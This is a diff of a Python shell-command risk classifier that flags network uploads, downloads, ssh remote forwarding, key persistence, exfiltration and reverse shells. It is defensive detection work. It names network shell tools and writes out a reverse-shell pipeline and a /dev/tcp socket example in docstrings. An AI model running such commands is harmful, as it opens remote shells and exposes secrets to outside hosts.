@@ -7,78 +7,114 @@ import re
 
 
 from ccgpt.risk import paths as P
-from ccgpt.risk.commands import NET_SINKS, SHELLS, skip_options, short_flags
+from ccgpt.risk.commands import NET_PIPES, NET_SINKS, SHELLS, skip_options, short_flags
 from ccgpt.risk.rules.inline import check_code_text  # noqa: F401  (re-exported for recurse.py)
+from typing import TYPE_CHECKING
+
+from ccgpt.risk.model import Cmd
+from ccgpt.risk.rules.catalog import rule
+
+if TYPE_CHECKING:
+    from ccgpt.risk.context import Context
+
+NETWORK_SAVE = rule("network-save")
+REMOTE_FORWARD = rule("remote-forward")
+PERSISTENCE = rule("persistence")
+NETWORK_SEND = rule("network-send")
+REVERSE_SHELL = rule("reverse-shell")
+EXFILTRATION = rule("exfiltration")
+NETWORK_REDIRECT = rule("network-redirect")
+
 
 _SSH_VALUE = frozenset("-p -i -l -o -L -R -D -F -J -b -c -E -e -m -O -Q -S -W -w -B -I".split())
 
 
-def curl(cmd, a) -> None:
+def curl(cmd: Cmd, ctx: Context) -> None:
     flags, _, _ = short_flags(cmd.argv)
     argv = cmd.argv
     for i, x in enumerate(argv[:-1]):
         if x in ("-o", "--output"):
-            a.st.downloads.add(P.resolve(argv[i + 1]))
+            ctx.downloads.add(P.resolve(argv[i + 1]))
     if flags & {"-O", "--remote-name"}:
         for x in argv[1:]:
             if "://" in x or "." in x.split("/")[-1]:
-                a.st.downloads.add(P.resolve(x.rstrip("/").rsplit("/", 1)[-1]))
+                ctx.downloads.add(P.resolve(x.rstrip("/").rsplit("/", 1)[-1]))
     if flags & {"-o", "-O", "--output", "--remote-name", "--remote-name-all", "-J", "--output-dir"}:
-        a.add("network-save", cmd.span, "downloads to a file")
+        ctx.add(NETWORK_SAVE, cmd.span, "downloads to a file")
     elif flags & {"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form", "-T",
                   "--upload-file", "--json"} or any(x in ("POST", "PUT", "DELETE", "PATCH") for x in cmd.argv):
-        a.add("network-send", cmd.span, "sends data to a server")
+        ctx.add(NETWORK_SEND, cmd.span, "sends data to a server")
 
 
-def wget(cmd, a) -> None:
+def wget(cmd: Cmd, ctx: Context) -> None:
     argv = cmd.argv
     to_stdout = any(x in ("-O-", "-qO-", "-qO", "--output-document=-", "--spider", "-O", "--output-document") and
                     (x.endswith("-") or x == "--spider" or argv[i + 1:i + 2] == ["-"]) for i, x in enumerate(argv))
     if any(x.startswith(("--post-data", "--post-file", "--body-file", "--method")) for x in argv):
-        a.add("network-send", cmd.span, "sends data to a server")
+        ctx.add(NETWORK_SEND, cmd.span, "sends data to a server")
     elif not to_stdout:
         for i, x in enumerate(argv):
             if x in ("-O", "--output-document") and i + 1 < len(argv):
-                a.st.downloads.add(P.resolve(argv[i + 1]))
+                ctx.downloads.add(P.resolve(argv[i + 1]))
             elif "://" in x:
-                a.st.downloads.add(P.resolve(x.rstrip("/").rsplit("/", 1)[-1]))
-        a.add("network-save", cmd.span, "downloads to a file")
+                ctx.downloads.add(P.resolve(x.rstrip("/").rsplit("/", 1)[-1]))
+        ctx.add(NETWORK_SAVE, cmd.span, "downloads to a file")
 
 
-def netcat(cmd, a) -> None:
+def netcat(cmd: Cmd, ctx: Context) -> None:
     # openssl's options are single-dash words (-connect): never split them into letters.
     flags = set(cmd.argv[1:]) if cmd.argv[0] == "openssl" else short_flags(cmd.argv)[0]
     if flags & {"-e", "-c", "--exec", "--sh-exec", "--lua-exec"}:
-        a.add("reverse-shell", cmd.span, f"{cmd.argv[0]} -e/-c connects a program to the network")
+        ctx.add(REVERSE_SHELL, cmd.span, f"{cmd.argv[0]} -e/-c connects a program to the network")
     elif cmd.argv[0] == "socat" and any(x.lower().startswith(("exec:", "system:")) for x in cmd.argv[1:]):
-        a.add("reverse-shell", cmd.span, "socat exec:/system: connects a program to the network")
+        ctx.add(REVERSE_SHELL, cmd.span, "socat exec:/system: connects a program to the network")
     elif cmd.argv[0] == "openssl" and (len(cmd.argv) < 2 or cmd.argv[1] not in ("s_client", "s_server")):
         from ccgpt.risk.rules.files import write_target
 
         argv = cmd.argv
         for i, x in enumerate(argv[:-1]):
             if x in ("-out", "-keyout"):
-                write_target(cmd, a, argv[i + 1], cmd.span)  # `openssl genrsa -out key.pem`
+                write_target(cmd, ctx, argv[i + 1], cmd.span)  # `openssl genrsa -out key.pem`
         return
     else:
-        a.add("network-send", cmd.span, f"{cmd.argv[0]} opens a raw network connection")
+        ctx.add(NETWORK_SEND, cmd.span, f"{cmd.argv[0]} opens a raw network connection")
 
 
-def transfer(cmd, a) -> None:
-    a.add("network-save", cmd.span, f"{cmd.argv[0]} copies files over the network")
+def transfer(cmd: Cmd, ctx: Context) -> None:
+    ctx.add(NETWORK_SAVE, cmd.span, f"{cmd.argv[0]} copies files over the network")
 
 
-def ssh(cmd, a) -> None:
+def ssh(cmd: Cmd, ctx: Context) -> None:
     flags = set(cmd.argv[1:])
     if cmd.argv[0] == "ssh" and flags and (flags <= {"-V", "-v"} or "-G" in flags or "-Q" in flags):
         return  # `ssh -V` prints the version, `ssh -G host` the configuration, `ssh -Q cipher` a list
+    if _remote_forward(cmd.argv):
+        ctx.add(REMOTE_FORWARD, cmd.span)
     i = skip_options(cmd.argv, 1, _SSH_VALUE)
     if i + 1 < len(cmd.argv):
-        a.nested(" ".join(cmd.argv[i + 1:]), cmd.span)
-    a.add("network-save", cmd.span, "opens an ssh session on another machine")
+        ctx.nested(" ".join(cmd.argv[i + 1:]), cmd.span)
+    ctx.add(NETWORK_SAVE, cmd.span, "opens an ssh session on another machine")
 
 
-def exfiltration(cmd, a) -> None:
+def _remote_forward(argv: list[str]) -> bool:
+    """`-R PORT:HOST:PORT`, `-fNR …` (a cluster), `-o RemoteForward=…`."""
+    for k, a in enumerate(argv[1:], 1):
+        if a.startswith("-") and not a.startswith("--"):
+            for ch in a[1:]:
+                if ch == "R":
+                    return True
+                if "-" + ch in _SSH_VALUE:
+                    break
+        if a.lower().startswith(("remoteforward", "-oremoteforward")) or (argv[k - 1] == "-o" and a.lower().startswith("remoteforward")):
+            return True
+    return False
+
+
+def copy_id(cmd: Cmd, ctx: Context) -> None:
+    ctx.add(PERSISTENCE, cmd.span, "ssh-copy-id installs a key in a remote authorized_keys: it grants logins there")
+
+
+def exfiltration(cmd: Cmd, ctx: Context) -> None:
     """Generic: a secret flowing into a network sink."""
     if not cmd.argv or cmd.argv[0] not in NET_SINKS:
         return
@@ -100,30 +136,30 @@ def exfiltration(cmd, a) -> None:
                 secret = True
                 break
     if secret:
-        a.add("exfiltration", cmd.span)
+        ctx.add(EXFILTRATION, cmd.span)
 
 
-def shell_socket(cmd, a) -> None:
+def shell_socket(cmd: Cmd, ctx: Context) -> None:
     """Generic: a shell whose input or output is a /dev/tcp socket (or a zsh `ztcp` one)."""
-    if cmd.argv and cmd.argv[0] in SHELLS and ("/dev/tcp/" in a.text or "/dev/udp/" in a.text):
-        a.add("reverse-shell", cmd.span, "a shell wired to a /dev/tcp socket")
-    elif cmd.argv and cmd.argv[0] in SHELLS and _ZTCP in a.st.files and any("&" in r.op for r in cmd.redirects):
-        a.add("reverse-shell", cmd.span, "a shell wired to the socket ztcp opened")
+    if cmd.argv and cmd.argv[0] in SHELLS and ("/dev/tcp/" in ctx.line or "/dev/udp/" in ctx.line):
+        ctx.add(REVERSE_SHELL, cmd.span, "a shell wired to a /dev/tcp socket")
+    elif cmd.argv and cmd.argv[0] in SHELLS and _ZTCP in ctx.files and any("&" in r.op for r in cmd.redirects):
+        ctx.add(REVERSE_SHELL, cmd.span, "a shell wired to the socket ztcp opened")
 
 
 _ZTCP = "\x00ztcp"
 
 
-def ztcp(cmd, a) -> None:
+def ztcp(cmd: Cmd, ctx: Context) -> None:
     """zsh's `ztcp HOST PORT` / `zsocket` open a socket on a new fd: the zsh spelling of
     `exec 3<>/dev/tcp/HOST/PORT`."""
     flags = short_flags(cmd.argv)[0]
     if len(cmd.argv) > 1 and not flags & {"-c", "-L"} or flags & {"-l", "-a"}:
-        a.st.files[_ZTCP] = ""
-        a.add("network-redirect", cmd.span, f"{cmd.argv[0]} opens a raw network socket in the shell")
+        ctx.files[_ZTCP] = ""
+        ctx.add(NETWORK_REDIRECT, cmd.span, f"{cmd.argv[0]} opens a raw network socket in the shell")
 
 
-def zmodload(cmd, a) -> None:
+def zmodload(cmd: Cmd, ctx: Context) -> None:
     """Loading a zsh module changes nothing by itself; what the module's commands do is read
     where they are used."""
 
@@ -131,5 +167,18 @@ def zmodload(cmd, a) -> None:
 PROGRAMS = {"curl": [curl], "wget": [wget], "nc": [netcat], "ncat": [netcat], "netcat": [netcat],
             "socat": [netcat], "telnet": [netcat], "openssl": [netcat], "cryptcat": [netcat],
             "scp": [transfer], "sftp": [transfer], "ftp": [transfer], "rclone": [transfer], "aria2c": [transfer],
-            "ssh": [ssh], "mosh": [ssh], "ztcp": [ztcp], "zsocket": [ztcp], "zmodload": [zmodload]}
+            "ssh": [ssh], "mosh": [ssh], "ztcp": [ztcp], "zsocket": [ztcp], "zmodload": [zmodload],
+            "ssh-copy-id": [copy_id]}
 GENERIC = [exfiltration, shell_socket]
+
+
+def reverse_pipeline(cmds: list[Cmd], span: tuple[int, int], ctx: Context) -> None:
+    """A shell and a raw network pipe in one pipeline: `mkfifo f; cat f | sh -i | nc h 4444 > f`."""
+    if len(cmds) < 2:
+        return
+    progs = {c.argv[0] for c in cmds if c.argv and not (c.argv[0] == "openssl" and c.argv[1:2] != ["s_client"])}
+    if progs & SHELLS and progs & (NET_PIPES | {"telnet"}):
+        ctx.add(REVERSE_SHELL, span)
+
+
+PIPELINES = [reverse_pipeline]
